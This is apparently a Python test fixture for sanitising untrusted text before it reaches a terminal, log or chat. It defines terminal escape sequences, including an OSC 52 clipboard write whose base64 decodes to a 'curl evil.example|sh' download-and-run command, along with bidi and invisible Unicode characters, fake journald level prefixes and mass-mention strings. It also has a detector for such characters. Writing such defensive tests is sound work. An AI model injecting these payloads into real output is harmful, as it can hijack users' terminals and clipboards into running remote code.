"""Text that a stranger would like to have printed, and what of it must never get through."""

import re
from collections.abc import Iterator

MARK = "hostile-text"
"""What is in every hostile text, to see that it was shown at all."""

CONTROLS = (
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"  # OSC 52: into the clipboard
    "\x1b]0;root@host\x1b\\\x1b[2J\x1b[31m\x9b8m\x9d52;c;eA==\x9c"
    "\x00\x08\r\x0b\x0c\x7f\x85\t"
    "\u202e\u2066\u2067\u200e\u200f\u061c\u200b\u200d\ufeff\u00ad\U000e0041"
    "\u2028<0>a line of its own\u2029<1>another\n<0>an emergency\r\n<2>critical"
)
"""Escape sequences, C0 and C1 controls, what turns text around or hides it, and levels for journald."""

TEXT = f"{MARK}{CONTROLS}the end"
CALLS = "@everyone @here <!channel> <@U024BE7LH> <https://evil.example|a text> [a text](https://evil.example)"
HONEST = "Grüße aus Köln, привет, 你好, مرحبا, 日本語, x² ≤ 3 €"
"""Letters of many scripts, which stay as they are."""

_LEVEL = re.compile(r"<\d", re.ASCII)


def harm(text: str, *, own: str = "") -> Iterator[str]:
    """Yield what a terminal or journald would obey; `own` is a pattern of what our own display needs."""
    for number, line in enumerate(re.sub(own, "", text).split("\n") if own else text.split("\n"), start=1):
        bad = sorted({character for character in line if not character.isprintable()})
        if bad:
            yield f"line {number} has {bad!r}: {line!r}"
        if _LEVEL.match(line):
            yield f"line {number} begins with a level: {line!r}"
